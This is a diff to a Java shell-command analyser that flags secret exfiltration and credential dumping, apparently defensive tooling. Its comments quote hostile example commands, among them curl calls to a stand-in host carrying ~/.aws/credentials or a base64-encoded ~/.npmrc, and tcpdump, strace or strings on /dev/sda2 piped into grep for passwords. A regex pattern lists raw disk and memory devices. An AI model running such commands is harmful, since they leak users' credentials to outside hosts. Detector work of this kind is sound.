@@ -264,8 +264,10 @@ final class ShellFacts {
             // xargs curl 'https://x.example/?d={}': what the input holds becomes the arguments of a command that
             // names a host, and so goes to it.
             // curl "https://x.example/?k=$(cat ~/.aws/credentials)": a substitution inside a URL goes to its host too.
-            boolean sendsItsArguments =
-                    !r.hosts.isEmpty() && (c.has(dev.lighthouse.shell.Trait.ARGUMENTS_FROM_INPUT) || substitutedUrl(c));
+            boolean sendsItsArguments = !r.hosts.isEmpty()
+                    && (c.has(dev.lighthouse.shell.Trait.ARGUMENTS_FROM_INPUT)
+                            || substitutedUrl(c)
+                            || substitutedDataHeader(c));
             boolean fedSecret = upstreamLeaks(c, readings);
             if ((r.sends || sendsItsArguments)
                     && (secretInput
@@ -1284,6 +1286,21 @@ final class ShellFacts {
         return false;
     }
 
+    /**
+     * A request header that carries data, not a credential, filled by a command substitution ({@code -H "X-Data:
+     * $(cat ~/.npmrc | base64)"}): what the substitution prints goes to the host like a URL's query does. A
+     * credential handed to the service in an authentication header ({@code -H "Authorization: Bearer $(…)"}) is used,
+     * not sent on.
+     */
+    private static boolean substitutedDataHeader(Command c) {
+        for (String header : CommandReader.headers(c.argValues())) {
+            if ((header.contains("$(") || header.contains("`")) && CommandReader.carriesData(header)) {
+                return true;
+            }
+        }
+        return false;
+    }
+
     private static boolean readsAny(CommandReader.Reading r, Set<String> paths) {
         if (paths.isEmpty()) {
             return false;
@@ -1472,9 +1489,11 @@ final class ShellFacts {
                 continue;
             }
             if (c.stdin() instanceof Input.Pipe(List<Command> upstream)
-                    && upstream.stream().anyMatch(u -> capturesCredentials(readings.get(u)))) {
+                    && upstream.stream()
+                            .anyMatch(
+                                    u -> capturesCredentials(readings.get(u)) || readsMemoryOrDisk(readings.get(u)))) {
                 // tcpdump -A port 21 | grep -i pass, strace -p PID | grep passw: the passwords taken out of captured
-                // traffic or system calls
+                // traffic or system calls; strings /dev/sda2 | grep password=: out of a raw disk, swap or memory
                 r.signals.add(Signal.CREDENTIAL_DUMP);
                 continue;
             }
@@ -1490,6 +1509,27 @@ final class ShellFacts {
             }
         }
     }
+
+    /**
+     * Reads a raw disk, swap or memory device, a process's memory or a memory image (a core dump, a crash or LiME
+     * dump), where passwords typed or held by other programs lie in clear: searched for them, they are dumped.
+     */
+    private static boolean readsMemoryOrDisk(CommandReader.Reading r) {
+        if (r == null) {
+            return false;
+        }
+        for (Op op : r.ops) {
+            if (op.kind() == OpKind.READ
+                    && MEMORY_OR_DISK.matcher(op.target().resolved()).find()) {
+                return true;
+            }
+        }
+        return false;
+    }
+
+    private static final Pattern MEMORY_OR_DISK =
+            Pattern.compile("^/dev/(sd|hd|vd|xvd|nvme|mmcblk|dm-|mapper/|zram|disk/|mem$|kmem$)|^/proc/[^/]+/mem$"
+                    + "|/core(\\.[^/]*)?$|\\.(core|dmp|lime|vmem|mem)$");
 
     /** A capture of what passes by (packets, another process's system calls) that may carry credentials. */
     private static boolean capturesCredentials(CommandReader.Reading r) {
